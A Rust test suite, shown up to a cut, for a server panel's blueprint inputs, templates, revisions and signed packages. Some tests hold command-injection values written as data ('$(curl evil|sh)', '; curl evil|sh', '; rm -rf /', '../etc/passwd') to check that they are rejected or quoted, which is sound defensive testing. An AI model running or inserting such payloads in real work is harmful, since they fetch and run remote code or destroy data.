//! Tests of blueprints: their inputs, templates, revisions and packages.
use voltpanel::json::{canonical_json, Json, Member};
use voltpanel::models::{Blueprint, BlueprintInput, InputKind, Server};
use voltpanel::services::blueprint::{
    build_default_config, check_import_size, check_value, default_runtime, default_stop,
    enforce_workspace_path, env_for_server, install_limits, install_report, is_command_value,
    is_scripted,
    judge_config, keep_tail, parse_blueprint_json, render, render_command, resolve_startup, resolve_variables,
    run_install, shell_quote, template_context, validate_inputs,
    validate_resolved_variables, validate_value, validate_workspace_path, wait_install,
    workspace_probes, BlueprintImport, Findings, InputFault, InstallScript, NumberVerdict,
    PatternVerdict, TemplateCtx, UrlVerdict, WaitAction, Workspace, MAX_BLUEPRINT_IMPORT_BYTES,
};
use voltpanel::services::pull::{Header, PullNext};
use voltpanel::services::registry::{
    admit_fetched, admit_package, build_package_doc, judge_signature, list_read_packages,
    list_registry_packages, load_found_package, load_registry_package, local_registry_installs,
    package_id_from_name, package_is_signed, package_path, package_to_load, package_with_config,
    provenance_path, public_key_fingerprint, public_key_hex,
    publish_package, registry_root, sign_package_doc, signing_key_from_hex, valid_package_id,
    valid_uuid_segment, verify_package_signature, FetchError, FoundPackage, PackageError,
    PackageFile, PackageProvenance, PackageRead, ProvenanceFile, RegistryFetch,
};
use voltpanel::services::revisions::{
    content_doc, content_equals, diff_revisions, digest_of, drift_for_blueprint, pin_server,
    History, PinError, PinnedServer,
};

fn to_json(v: &serde_json::Value) -> Json {
    match v {
        serde_json::Value::Null => Json::Null,
        serde_json::Value::Bool(b) => Json::Bool(*b),
        serde_json::Value::Number(n) => Json::Number(n.to_string()),
        serde_json::Value::String(s) => Json::Text(s.clone()),
        serde_json::Value::Array(a) => Json::Array(a.iter().map(to_json).collect()),
        serde_json::Value::Object(o) => Json::Object(
            o.iter().map(|(k, v)| Member { key: k.clone(), value: to_json(v) }).collect(),
        ),
    }
}

fn json(s: &str) -> Json {
    to_json(&serde_json::from_str(s).unwrap())
}

fn text_input(env_var: &str, default: &str) -> BlueprintInput {
    BlueprintInput {
        name: "Version".into(),
        description: String::new(),
        env_var: env_var.into(),
        default_value: default.into(),
        user_viewable: true,
        user_editable: true,
        required: false,
        kind: InputKind::Text { max_len: None, pattern: None },
    }
}

fn bp() -> Blueprint {
    Blueprint {
        id: 1,
        uuid: "u1".into(),
        name: "minecraft".into(),
        description: "vanilla server".into(),
        author: "alice".into(),
        category: "game".into(),
        runtime_hint: "native".into(),
        startup: "java -Xmx1G -jar server.jar nogui".into(),
        default_config: Some(r#"{"server.properties": {}}"#.into()),
        install_script: Some("apt-get install -y openjdk-17".into()),
        variables: vec![text_input("MC_VERSION", "1.20.1")],
        stop_command: "stop".into(),
        created_at: "t1".into(),
        updated_at: "t2".into(),
    }
}

fn named(name: &str, env_var: &str, default: &str) -> BlueprintInput {
    BlueprintInput { name: name.into(), ..text_input(env_var, default) }
}

const CONFIG: &str = r#"{"version":"${input.MC_VERSION}","name":"${workspace.name}"}"#;
const SCRIPT: &str = "echo installing ${input.MC_VERSION} into ${workspace.name}";

/// The blueprint that the workspaces of these tests are made from.
fn stored() -> Blueprint {
    Blueprint {
        id: 1,
        uuid: "b".into(),
        name: "srv-blueprint".into(),
        description: "d".into(),
        author: "a".into(),
        category: "generic".into(),
        runtime_hint: "native".into(),
        startup: "echo ${input.MC_VERSION}".into(),
        default_config: Some(CONFIG.into()),
        install_script: Some(SCRIPT.into()),
        variables: vec![text_input("MC_VERSION", "1.20.1")],
        stop_command: "stop".into(),
        created_at: "now".into(),
        updated_at: "now".into(),
    }
}

/// The inputs of a blueprint as a document.
fn vars(b: &Blueprint) -> Json {
    Json::Array(
        b.variables
            .iter()
            .map(|v| {
                Json::object()
                    .insert("name", Json::text(&v.name))
                    .insert("env_var", Json::text(&v.env_var))
                    .insert("default_value", Json::text(&v.default_value))
            })
            .collect(),
    )
}

fn digest(b: &Blueprint) -> String {
    digest_of(b, &vars(b))
}

fn content(b: &Blueprint) -> Json {
    content_doc(b, &vars(b))
}

fn bound(b: &Option<String>) -> Option<f64> {
    b.as_ref().map(|s| s.parse().unwrap())
}

/// What the bounds of an input say of a value as a number.
fn number(var: &BlueprintInput, value: &str) -> NumberVerdict {
    let (min, max) = match &var.kind {
        InputKind::Number { min, max } => (min, max),
        _ => return NumberVerdict::Fine,
    };
    let v: f64 = match value.trim().parse() {
        Ok(v) => v,
        Err(_) => return NumberVerdict::NotANumber,
    };
    if !v.is_finite() {
        return NumberVerdict::NotFinite;
    }
    if let Some(mn) = bound(min) {
        if v < mn {
            return NumberVerdict::TooLow { bound: min.clone().unwrap() };
        }
    }
    if let Some(mx) = bound(max) {
        if v > mx {
            return NumberVerdict::TooHigh { bound: max.clone().unwrap() };
        }
    }
    NumberVerdict::Fine
}

fn valid(var: &BlueprintInput, value: &str) -> Result<(), String> {
    validate_value(var, value, &number(var, value)).map_err(|e| e.message())
}

fn number_kind(min: Option<&str>, max: Option<&str>) -> InputKind {
    InputKind::Number { min: min.map(str::to_string), max: max.map(str::to_string) }
}

fn server(startup: &str) -> Server {
    Server {
        id: 1,
        uuid: "s".into(),
        name: "srv".into(),
        blueprint_id: 1,
        startup: startup.into(),
        port: None,
        memory_mb: 1024,
        disk_mb: 8192,
        cpu_percent: 100,
    }
}

fn workspace(vars: Vec<BlueprintInput>, startup: &str) -> Workspace {
    let values = resolve_variables(&vars, &vec![]);
    let findings = vars
        .iter()
        .zip(&values)
        .map(|(v, value)| Findings { number: number(v, value), root: None, found: vec![] })
        .collect();
    Workspace { vars, values, findings, server: server(startup), dir: "/srv/s".into() }
}

#[test]
fn digest_is_deterministic() {
    assert_eq!(digest(&bp()), digest(&bp()));
}

#[test]
fn digest_changes_with_variable_default() {
    let mut b = bp();
    let before = digest(&b);
    b.variables[0].default_value = "1.21".into();
    assert_ne!(before, digest(&b));
}

#[test]
fn digest_ignores_metadata() {
    let mut b = bp();
    let before = digest(&b);
    b.id = 99;
    b.updated_at = "later".into();
    assert_eq!(before, digest(&b));
}

#[test]
fn diff_revisions_reports_only_changed_keys() {
    let pinned = content(&bp());
    let mut cur = bp();
    cur.variables[0].default_value = "1.21".into();
    cur.description = "spigot server".into();
    assert_eq!(
        diff_revisions(&pinned, &content(&cur)),
        vec!["description".to_string(), "variables".to_string()]
    );
    assert!(diff_revisions(&content(&bp()), &content(&bp())).is_empty());
}

#[test]
fn content_equals_detects_noop() {
    assert!(content_equals(&bp(), &bp()));
    let mut changed = bp();
    changed.default_config = Some(r#"{"server.properties":{"motd":"hi"}}"#.into());
    assert!(!content_equals(&bp(), &changed));
    let mut author = bp();
    author.author = "bob".into();
    assert!(!content_equals(&bp(), &author));
    assert_ne!(digest(&bp()), digest(&author));
}

#[test]
fn content_is_compared_by_value() {
    let with = |min: Option<&str>, max: Option<&str>| {
        let mut b = bp();
        b.variables[0].kind = number_kind(min, max);
        b
    };
    assert!(content_equals(&with(Some("0"), None), &with(Some("-0"), None)));
    assert!(content_equals(&with(None, Some("inf")), &with(None, None)));
    assert!(!content_equals(&with(Some("0"), None), &with(Some("1"), None)));
    assert!(!content_equals(&with(Some("0"), None), &with(None, Some("0"))));
    let mut other = bp();
    other.variables[0].required = true;
    assert!(!content_equals(&bp(), &other));
    other = bp();
    other.variables.clear();
    assert!(!content_equals(&bp(), &other));
    other = bp();
    other.id = 77;
    other.updated_at = "later".into();
    assert!(content_equals(&bp(), &other));
    other.variables[0].kind = InputKind::Choice { options: vec!["a".into()] };
    let mut more = bp();
    more.variables[0].kind = InputKind::Choice { options: vec!["a".into(), "b".into()] };
    assert!(!content_equals(&more, &other));
}

#[test]
fn zeros_of_either_sign_are_one_value() {
    let doc = |zero: &str| {
        let list = Json::Array(vec![Json::Number(zero.into()), Json::Null]);
        Json::object().insert("variables", list).insert("name", Json::text("-0.0"))
    };
    assert!(doc("0.0").same(&doc("-0.0")));
    assert!(!doc("0.0").same(&doc("0")), "a float is no integer");
    assert!(!Json::text("0.0").same(&Json::text("-0.0")));
    assert!(diff_revisions(&doc("-0.0"), &doc("0.0")).is_empty());
    assert_eq!(diff_revisions(&doc("1.5"), &doc("0.0")), vec!["variables".to_string()]);
}

#[test]
fn digest_changes_with_author() {
    let mut b = bp();
    let before = digest(&b);
    b.author = "carol".into();
    assert_ne!(before, digest(&b));
}

#[test]
fn validate_value_requires_missing_input() {
    let mut var = bp().variables[0].clone();
    var.required = true;
    let err = valid(&var, "  ").unwrap_err();
    assert!(err.contains("MC_VERSION"), "got: {err}");
}

#[test]
fn validate_value_rejects_invalid_typed_default() {
    let mut var = bp().variables[0].clone();
    var.kind = number_kind(Some("1"), Some("64"));
    assert!(valid(&var, "lots").is_err());
    assert!(valid(&var, "0").is_err());
    assert!(valid(&var, "4").is_ok());
    var.kind = InputKind::Path { max_len: None };
    assert!(valid(&var, "../etc/passwd").is_err());
    assert!(valid(&var, "/etc/passwd").is_err());
    assert!(valid(&var, "data/db.sqlite").is_ok());
}

#[test]
fn validate_value_rejects_non_finite_numbers() {
    let mut var = bp().variables[0].clone();
    var.kind = number_kind(Some("1"), None);
    for bad in ["NaN", "nan", "inf", "-inf", "1e999"] {
        let err = valid(&var, bad).unwrap_err();
        assert!(err.contains("finite number"), "accepted {bad}: {err}");
    }
    assert!(valid(&var, "4").is_ok());
}

#[test]
fn validate_value_rejects_injectable_urls() {
    let mut var = bp().variables[0].clone();
    var.kind = InputKind::Url;
    assert!(valid(&var, "https://example.com/dl.zip").is_ok());
    assert!(valid(&var, "https://example.com/dl?a=1&b=2").is_ok());
    for bad in [
        "https://example.com/$(curl evil|sh)",
        "https://example.com/`id`",
        "http://exa;mple.com/x",
        "http://exa$mple.com/x",
        "http://",
        "javascript:alert(1)",
        "https://example.com/a b",
        "https://example.com/\u{0000}",
    ] {
        assert!(valid(&var, bad).is_err(), "accepted injectable url: {bad}");
    }
}

fn ctx(values: &[(&str, &str)]) -> TemplateCtx {
    TemplateCtx {
        values: values.iter().map(|(k, v)| (k.to_string(), v.to_string())).collect(),
        secrets: vec![],
    }
}

#[test]
fn command_render_quotes_injection_payload() {
    let c = ctx(&[("input.MEMORY", "1024"), ("input.ENTRYPOINT", "server.jar"), ("workspace.name", "srv")]);
    assert_eq!(
        render_command("java -Xmx${input.MEMORY}M -jar ${input.ENTRYPOINT} nogui", &c).unwrap(),
        "java -Xmx1024M -jar server.jar nogui"
    );
    let c = ctx(&[("input.MC_VERSION", "1.20.1; curl evil|sh"), ("workspace.name", "srv")]);
    assert_eq!(render_command("echo ${input.MC_VERSION}", &c).unwrap(), "echo '1.20.1; curl evil|sh'");
    let c = ctx(&[("input.X", "it's; rm -rf /")]);
    assert_eq!(render_command("echo ${input.X}", &c).unwrap(), "echo 'it'\\''s; rm -rf /'");
    let c = ctx(&[("workspace.name", "My Server")]);
    assert_eq!(render_command("echo ${workspace.name}", &c).unwrap(), "echo 'My Server'");
    assert_eq!(render("${workspace.name}", &c).unwrap(), "My Server");
    let c = ctx(&[("input.X", "")]);
    assert_eq!(render_command("set -- ${input.X}", &c).unwrap(), "set -- ''");
}

#[test]
fn non_viewable_var_render_error_names_secret_channel() {
    let mut secret = named("Token", "API_KEY", "hunter2");
    secret.user_viewable = false;
    secret.user_editable = false;
    let w = workspace(vec![secret], "echo ${input.API_KEY}");
    let err = resolve_startup(&w, "").unwrap_err().message();
    assert!(err.contains("secret variable"), "got: {err}");
    assert!(err.contains("input.API_KEY"), "got: {err}");
    assert!(!err.contains("unknown placeholder"), "got: {err}");
}

#[test]
fn install_script_placeholders_resolve_like_startup() {
    let w = workspace(bp().variables, "echo hi");
    let plan = run_install(&w, &stored().install_script)
        .unwrap()
        .unwrap();
    assert_eq!(plan.script, "echo installing 1.20.1 into srv");
    assert_eq!(plan.sandbox, "s-install");
    let c = template_context(&w.vars, &w.values, &w.server, &w.dir);
    assert_eq!(
        render(SCRIPT, &c).unwrap(),
        "echo installing 1.20.1 into srv"
    );
}

#[test]
fn install_script_unknown_placeholder_is_an_error() {
    let w = workspace(bp().variables, "echo hi");
    let c = template_context(&w.vars, &w.values, &w.server, &w.dir);
    let err = render("echo ${input.NOPE}", &c).unwrap_err().message();
    assert!(err.contains("input.NOPE"), "got: {err}");
}

#[test]
fn default_config_resolves_placeholders() {
    let w = workspace(bp().variables, "echo hi");
    let rendered = build_default_config(&w, "b", &stored().default_config).unwrap().unwrap();
    assert_eq!(rendered.get_text("version").unwrap(), "1.20.1");
    assert_eq!(rendered.get_text("name").unwrap(), "srv");
}

#[test]
fn non_viewable_vars_never_render_into_startup_or_config() {
    let mut secret = named("Token", "SECRET_TOKEN", "hunter2");
    secret.user_viewable = false;
    secret.user_editable = false;
    let w = workspace(
        vec![text_input("MC_VERSION", "1.20.1"), secret],
        "echo ${input.MC_VERSION} ${input.SECRET_TOKEN}",
    );
    let err = resolve_startup(&w, "").unwrap_err().message();
    assert!(err.contains("input.SECRET_TOKEN"), "startup leaked secret, got: {err}");
    let config = Some(r#"{"version":"${input.MC_VERSION}","token":"${input.SECRET_TOKEN}"}"#.to_string());
    let err = build_default_config(&w, "b", &config).unwrap_err().message();
    assert!(err.contains("input.SECRET_TOKEN"), "config leaked secret, got: {err}");
    let env = env_for_server(&w.vars, &w.values, &w.server, &w.dir);
    assert!(
        env.iter().any(|(k, v)| k == "SECRET_TOKEN" && v == "hunter2"),
        "secret missing from process env"
    );
}

#[test]
fn default_config_malformed_json_is_an_error() {
    let w = workspace(bp().variables, "echo hi");
    let err = build_default_config(&w, "b", &Some("{oops".to_string())).unwrap_err().message();
    assert!(err.contains("invalid default_config json"), "got: {err}");
    assert!(err.starts_with("blueprint 'b' declares"), "got: {err}");
}

#[test]
fn a_refused_configuration_names_its_blueprint() {
    assert!(matches!(judge_config("b", Ok(Json::Bool(true))).unwrap(), Json::Bool(true)));
    assert_eq!(
        judge_config("b", Err("no end".to_string())).unwrap_err().message(),
        "blueprint 'b' declares invalid default_config json: no end"
    );
}

#[test]
fn default_config_absent_is_none() {
    let w = workspace(bp().variables, "echo hi");
    assert!(build_default_config(&w, "b", &None).unwrap().is_none());
}

fn threads() -> BlueprintInput {
    let mut v = named("Threads", "THREADS", "lots");
    v.kind = number_kind(Some("1"), Some("64"));
    v
}

#[test]
fn install_script_rejects_invalid_resolved_input() {
    let w = workspace(vec![threads()], "echo hi");
    let err = run_install(&w, &stored().install_script).unwrap_err().message();
    assert!(err.contains("THREADS"), "got: {err}");
}

#[test]
fn install_script_rejects_missing_required_input() {
    let mut token = named("Token", "TOKEN", "");
    token.required = true;
    let w = workspace(vec![token], "echo hi");
    let err = run_install(&w, &stored().install_script).unwrap_err().message();
    assert!(err.contains("TOKEN"), "got: {err}");
}

#[test]
fn resolve_startup_rejects_invalid_number_input() {
    let err = resolve_startup(&workspace(vec![threads()], "echo hi"), "").unwrap_err().message();
    assert!(err.contains("THREADS"), "got: {err}");
}

#[test]
fn build_default_config_rejects_invalid_number_input() {
    let w = workspace(vec![threads()], "echo hi");
    let err = build_default_config(&w, "b", &stored().default_config).unwrap_err().message();
    assert!(err.contains("THREADS"), "got: {err}");
}

fn history(b: &Blueprint) -> History {
    History { version: 1, content: content(b), revisions: vec![] }
}

#[test]
fn snapshot_and_update_records_coherent_revision() {
    let before = stored();
    let mut updated = stored();
    updated.name = "renamed-blueprint".into();
    updated.install_script = Some("echo v2".into());
    let mut h = history(&before);
    let version = h.snapshot_and_update(content(&updated), "alice", "rename", "t");
    assert_eq!(version, 2);
    assert!(h.revision_snapshot(2).unwrap().same(&content(&before)));
    let metas = h.list_revisions();
    assert_eq!(metas.len(), 1);
    assert_eq!(metas[0].version, 2);
    assert_eq!(metas[0].digest, digest(&before));
    assert_eq!(metas[0].author, "alice");
    assert!(h.content.same(&content(&updated)));
    assert_eq!(h.content.get_text("name").unwrap(), "renamed-blueprint");
    assert_eq!(h.version, 2);
}

#[test]
fn snapshot_bumps_version_in_lockstep() {
    let before = stored();
    let mut h = history(&before);
    assert_eq!(h.snapshot("alice", "baseline", "t"), 2);
    assert_eq!(h.snapshot("alice", "again", "t"), 3);
    let metas = h.list_revisions();
    assert_eq!(metas.len(), 2);
    assert_eq!(metas[0].version, 3);
    assert_eq!(metas[1].version, 2);
    for m in &metas {
        assert_eq!(m.digest, digest(&before));
    }
}

#[test]
fn rollback_restores_snapshot_and_is_undoable() {
    let before = stored();
    let mut updated = stored();
    updated.name = "renamed".into();
    let mut h = history(&before);
    assert_eq!(h.snapshot_and_update(content(&updated), "alice", "rename", "t"), 2);
    assert_eq!(h.rollback(2, &Ok(vars(&before)), "alice", "t").unwrap(), 3);
    assert!(h.content.same(&content(&before)));
    assert!(h.revision_snapshot(3).unwrap().same(&content(&updated)));
}

#[test]
fn rollback_rejects_corrupt_snapshot() {
    let before = stored();
    let mut h = history(&before);
    let v = h.snapshot("alice", "baseline", "t");
    let broken = h.revisions[0].snapshot.copy().insert("variables", Json::text("not-an-array"));
    h.revisions[0].snapshot = broken;
    let err = h.rollback(v, &Err("expected a sequence".into()), "alice", "t").unwrap_err().message();
    assert!(err.contains("variables"), "got: {err}");
    assert!(h.rollback(9, &Ok(vars(&before)), "alice", "t").is_err());
}

fn declared(v: Vec<BlueprintInput>) -> Result<(), String> {
    let numbers = v.iter().map(|x| number(x, &x.default_value)).collect();
    validate_inputs(&v, &numbers).map_err(|e| e.message())
}

#[test]
fn validate_inputs_rejects_duplicate_env_var() {
    let mut a = bp().variables[0].clone();
    a.env_var = "DUP".into();
    let mut b = a.clone();
    b.name = "second".into();
    let err = declared(vec![a, b]).unwrap_err();
    assert!(err.contains("DUP"), "got: {err}");
}

#[test]
fn validate_inputs_rejects_empty_env_var() {
    let mut var = bp().variables[0].clone();
    var.env_var = "  ".into();
    let err = declared(vec![var]).unwrap_err();
    assert!(err.contains("env_var"), "got: {err}");
}

#[test]
fn validate_inputs_rejects_invalid_default_for_kind() {
    let mut var = bp().variables[0].clone();
    var.kind = number_kind(Some("1"), Some("64"));
    var.default_value = "lots".into();
    let err = declared(vec![var]).unwrap_err();
    assert!(err.contains("default_value"), "got: {err}");
}

#[test]
fn validate_inputs_rejects_choice_without_options() {
    let mut var = bp().variables[0].clone();
    var.kind = InputKind::Choice { options: vec![] };
    let err = declared(vec![var]).unwrap_err();
    assert!(err.contains("option"), "got: {err}");
}

#[test]
fn validate_inputs_rejects_invalid_pattern() {
    let mut var = bp().variables[0].clone();
    var.kind = InputKind::Text { max_len: None, pattern: Some("([unclosed".into()) };
    let err = declared(vec![var]).unwrap_err();
    assert!(err.contains("pattern"), "got: {err}");
}

#[test]
fn validate_inputs_accepts_valid_declaration() {
    let mut var = bp().variables[0].clone();
    var.kind = InputKind::Choice { options: vec!["a".into(), "b".into()] };
    var.default_value = "a".into();
    assert!(declared(vec![var]).is_ok());
}

fn import(startup: &str, variables: Vec<BlueprintInput>) -> BlueprintImport {
    BlueprintImport {
        name: "imp".into(),
        description: String::new(),
        author: String::new(),
        category: "generic".into(),
        runtime_hint: "native".into(),
        startup: startup.into(),
        config: None,
        install: None,
        variables,
        stop: "stop".into(),
    }
}

fn imported(i: &BlueprintImport) -> Result<(), String> {
    let numbers = i.variables.iter().map(|x| number(x, &x.default_value)).collect();
    parse_blueprint_json(i, &numbers).map_err(|e| e.message())
}

#[test]
fn parse_blueprint_json_rejects_empty_startup() {
    let err = imported(&import("", vec![])).unwrap_err();
    assert!(err.contains("startup"), "got: {err}");
}

#[test]
fn parse_blueprint_json_rejects_oversize_payload() {
    let doc = format!(
        r#"{{"name":"x","description":"{}","startup":"echo hi"}}"#,
        "a".repeat(MAX_BLUEPRINT_IMPORT_BYTES + 1)
    );
    let err = check_import_size(&doc).unwrap_err().message();
    assert!(err.contains("limit"), "got: {err}");
    assert!(check_import_size("{}").is_ok());
}

#[test]
fn parse_blueprint_json_validates_declared_inputs() {
    let mut a = named("A", "A", "x");
    a.kind = number_kind(Some("1"), Some("2"));
    let err = imported(&import("echo hi", vec![a])).unwrap_err();
    assert!(err.contains("default_value"), "got: {err}");
    assert!(imported(&import("echo hi", vec![named("A", "X", ""), named("B", "X", "")])).is_err());
}

#[test]
fn parse_blueprint_json_accepts_valid_document() {
    let doc = import("echo hi", vec![named("A", "X", "1")]);
    assert!(imported(&doc).is_ok());
    assert_eq!(doc.startup, "echo hi");
    assert_eq!(doc.variables.len(), 1);
}

/// Real paths of a workspace's probes, from a list of links.
fn resolved(dir: &str, rel: &str, links: &[(&str, &str)], known: &[&str]) -> Vec<Option<String>> {
    workspace_probes(dir, rel)
        .iter()
        .map(|p| {
            if let Some((_, to)) = links.iter().find(|(l, _)| l == p) {
                Some(to.to_string())
            } else if known.contains(&p.as_str()) {
                Some(p.clone())
            } else {
                None
            }
        })
        .collect()
}

#[test]
fn enforce_workspace_path_accepts_relative_paths() {
    let root = Some("/ws".to_string());
    for rel in ["data/db.sqlite", "new.txt", ""] {
        let found = resolved("/ws", rel, &[], &["/ws", "/ws/data"]);
        assert!(enforce_workspace_path("P", "/ws", rel, &root, &found).is_ok(), "{rel}");
    }
}

#[test]
fn enforce_workspace_path_rejects_symlink_escape() {
    let root = Some("/ws".to_string());
    for rel in ["escape", "escape/new.txt"] {
        let found = resolved("/ws", rel, &[("/ws/escape", "/outside")], &["/ws"]);
        let err = enforce_workspace_path("P", "/ws", rel, &root, &found).unwrap_err().message();
        assert!(err.contains("workspace"), "got: {err}");
    }
}

#[test]
fn enforce_workspace_path_skips_missing_workspace() {
    let found = resolved("/none", "x", &[], &[]);
    assert!(enforce_workspace_path("P", "/none", "x", &None, &found).is_ok());
}

fn reg_bp() -> Blueprint {
    Blueprint {
        id: 7,
        uuid: "01234567-89ab-cdef-0123-456789abcdef".into(),
        name: "Velocity Proxy v2".into(),
        description: "edge proxy".into(),
        author: "alice".into(),
        category: "web".into(),
        runtime_hint: "native".into(),
        startup: "java -jar app.jar".into(),
        default_config: Some(r#"{"server.properties": {"port": 25565}}"#.into()),
        install_script: Some("apt-get install -y openjdk".into()),
        variables: vec![],
        stop_command: "stop".into(),
        created_at: "t".into(),
        updated_at: "t".into(),
    }
}

fn package(version: i64, publisher: &str) -> Json {
    build_package_doc(
        &reg_bp(),
        version,
        publisher,
        "2026-01-01T00:00:00+00:00",
        &Json::Array(vec![]),
    )
}

#[test]
fn package_carries_the_default_config_as_a_document() {
    let config = |stored: Option<&str>| {
        let mut b = reg_bp();
        b.default_config = stored.map(Into::into);
        let doc = build_package_doc(&b, 1, "p", "t", &Json::Array(vec![]));
        canonical_json(doc.get("blueprint").unwrap().get("config").unwrap())
    };
    assert_eq!(config(Some(r#" { "b" : [1, -0.5, true], "a": null } "#)), r#"{"a":null,"b":[1,-0.5,true]}"#);
    assert_eq!(config(Some("{oops")), "null");
    assert_eq!(config(None), "null");
    let with = package_with_config(&reg_bp(), 1, "p", "t", Json::Bool(true), &Json::Array(vec![]));
    assert_eq!(canonical_json(with.get("blueprint").unwrap().get("config").unwrap()), "true");
}

#[test]
fn documents_are_read_from_text_and_bytes() {
    let text = r#"{"z": [1, 2.50, -3, 1e3], "a": {"t": "x\n", "n": null, "b": false}, "e": [], "o": {}}"#;
    let read = Json::parse(text).unwrap();
    assert_eq!(canonical_json(&read), canonical_json(&json(text)));
    assert_eq!(canonical_json(&read), r#"{"a":{"b":false,"n":null,"t":"x\n"},"e":[],"o":{},"z":[1,2.5,-3,1000.0]}"#);
    assert_eq!(canonical_json(&Json::parse_bytes(text.as_bytes()).unwrap()), canonical_json(&read));
    let refused = serde_json::from_str::<serde_json::Value>("{oops").unwrap_err().to_string();
    assert_eq!(Json::parse("{oops").unwrap_err(), refused);
    assert!(Json::parse_bytes(&[b'"', 0xff, b'"']).is_err());
    assert!(Json::parse_bytes(b"").is_err());
}

#[test]
fn canonical_json_sorts_keys_and_is_deterministic() {
    let a = json(r#"{ "z": 1, "a": { "y": 2, "b": [3, { "q": 4 }] } }"#);
    let b = json(r#"{ "a": { "b": [3, { "q": 4 }], "y": 2 }, "z": 1 }"#);
    assert_eq!(canonical_json(&a), canonical_json(&b));
    assert!(canonical_json(&a).contains("\"a\":"));
    let s = canonical_json(&a);
    assert!(s.find("\"a\"").unwrap() < s.find("\"z\"").unwrap(), "keys sort: {s}");
    assert_eq!(s, r#"{"a":{"b":[3,{"q":4}],"y":2},"z":1}"#);
}

#[test]
fn package_id_from_name_slugs_and_sanitizes() {
    assert_eq!(package_id_from_name("Velocity Proxy v2"), "velocity-proxy-v2");
    assert_eq!(package_id_from_name("A  B__C!!!"), "a-b-c");
    assert_eq!(package_id_from_name("!!!"), "package");
    assert_eq!(package_id_from_name(".."), "package");
}

#[test]
fn package_ids_have_single_dashes_and_stay() {
    for name in ["--a--B  c--", "9 lives!", "-", "x-y-z", "Ünï cödé"] {
        let id = package_id_from_name(name);
        assert!(!id.starts_with('-') && !id.ends_with('-') && !id.contains("--"), "{id}");
        assert_eq!(package_id_from_name(&id), id);
    }
    assert_eq!(package_id_from_name("--a--B  c--"), "a-b-c");
}

#[test]
fn signature_round_trips_and_tamper_is_rejected() {
    let seed = hex::encode([5u8; 32]);
    let doc = package(3, "alice");
    assert!(!package_is_signed(&doc));
    let doc = publish_package(".", doc, Some(&seed), "n").unwrap().doc;
    assert!(package_is_signed(&doc));
    assert!(verify_package_signature(&doc).unwrap());
    let again = publish_package(".", doc.copy(), Some(&seed), "n").unwrap().doc;
    assert!(package_is_signed(&again));
    assert!(verify_package_signature(&again).unwrap());
    let tampered = doc.copy().insert("version", Json::integer(99));
    assert!(verify_package_signature(&tampered).is_err());
    let other = public_key_hex(&signing_key_from_hex(&hex::encode([6u8; 32])).unwrap());
    let swapped = doc.copy().insert("public_key", Json::text(&other));
    assert!(verify_package_signature(&swapped).is_err());
    let unsigned = package(1, "alice");
    assert!(!verify_package_signature(&unsigned).unwrap());
}

#[test]
fn signing_key_from_hex_validates_input() {
    let seed = hex::encode([5u8; 32]);
    assert!(signing_key_from_hex(&seed).is_ok());
    assert!(signing_key_from_hex("zz").is_err());
    assert!(signing_key_from_hex(&hex::encode([0u8; 16])).is_err());
}

#[test]
fn publish_list_load_round_trip_with_provenance() {
    let seed = hex::encode([7u8; 32]);
    let made = publish_package("/reg", package(2, "alice"), Some(&seed), "n").unwrap();
    assert_eq!(made.path, package_path("/reg", "velocity-proxy-v2", 2));

    let listed = list_registry_packages(&vec![PackageFile {
        name: "velocity-proxy-v2@2.json".into(),
        text: Some(canonical_json(&made.doc)),
    }]);
    assert_eq!(listed.len(), 1);
    assert_eq!(listed[0].id, "velocity-proxy-v2");
    assert_eq!(listed[0].version, 2);
    assert_eq!(listed[0].source_uuid, reg_bp().uuid);
    assert!(listed[0].signed);
    assert!(listed[0].signature_valid);

    assert_eq!(package_to_load("/reg", "velocity-proxy-v2", 2).unwrap(), made.path);
    let written = canonical_json(&made.doc);
    let loaded = load_registry_package("velocity-proxy-v2", 2, Some(&written)).unwrap();
    let inner = loaded.get("blueprint").unwrap();
    assert_eq!(inner.get_text("startup").unwrap(), "java -jar app.jar");
    let port = inner.get("config").unwrap().get("server.properties").unwrap().get_integer("port");
    assert_eq!(port, Some(25565));
    assert!(load_registry_package("velocity-proxy-v2", 9, None).is_err());
    assert!(load_registry_package("nope", 1, None).is_err());

    let prov = PackageProvenance {
        package_id: "velocity-proxy-v2".into(),
        version: 2,
        source_url: Some("https://registry.example/v2.json".into()),
        public_key: Some(public_key_hex(&signing_key_from_hex(&seed).unwrap())),
        signature: made.doc.get_text("signature").cloned(),
        verified: true,
        installed_at: chrono::Utc::now().to_rfc3339(),
    };
    assert!(provenance_path("/reg", &reg_bp().uuid).is_some());
    let installs = local_registry_installs(&vec![ProvenanceFile {
        name: format!("{}.json", reg_bp().uuid),
        record: Some(prov.clone()),
    }]);
    assert_eq!(installs.len(), 1);
    assert_eq!(installs[0].uuid, reg_bp().uuid);
    let file = |name: &str, id: &str| ProvenanceFile {
        name: name.into(),
        record: Some(PackageProvenance { package_id: id.into(), ..prov.clone() }),
    };
    let twice = vec![file("a.json", "one"), file("b.json", "two"), file("a.json.json", "three")];
    let mut told: Vec<(String, String)> = local_registry_installs(&twice)
        .into_iter()
        .map(|i| (i.uuid, i.package_id))
        .collect();
    told.sort();
    assert_eq!(told, vec![("a".into(), "three".into()), ("b".into(), "two".into())]);
    assert_eq!((installs[0].package_id.as_str(), installs[0].version), ("velocity-proxy-v2", 2));
}

#[test]
fn unsigned_package_publishes_and_lists_cleanly() {
    let made = publish_package("/reg", package(1, "bob"), None, "n").unwrap();
    let listed = list_registry_packages(&vec![PackageFile {
        name: "velocity-proxy-v2@1.json".into(),
        text: Some(canonical_json(&made.doc)),
    }]);
    assert_eq!(listed.len(), 1);
    assert!(!listed[0].signed);
    assert!(!listed[0].signature_valid);
    let loaded = load_registry_package("velocity-proxy-v2", 1, Some(&canonical_json(&made.doc))).unwrap();
    assert!(!package_is_signed(&loaded));
}

#[test]
fn republish_same_version_overwrites_atomically() {
    let first = publish_package("/reg", package(1, "alice"), None, "n1").unwrap();
    let doc2 = package(1, "alice").insert("description", Json::text("updated"));
    let second = publish_package("/reg", doc2, None, "n2").unwrap();
    assert_eq!(first.path, second.path, "republish must replace, not duplicate");
    assert_ne!(first.temp, second.temp);
    let listed = list_registry_packages(&vec![PackageFile {
        name: "velocity-proxy-v2@1.json".into(),
        text: Some(canonical_json(&second.doc)),
    }]);
    assert_eq!(listed.len(), 1, "republish must replace, not duplicate");
    assert_eq!(listed[0].description, "updated");
}

#[test]
fn each_kind_of_input_refuses_what_it_does_not_take() {
    let no_pattern = PatternVerdict::Absent;
    let no_url = UrlVerdict { scheme: None, host: None };
    let fault = |kind: InputKind, value: &str, n: NumberVerdict, p: &PatternVerdict, u: &UrlVerdict| {
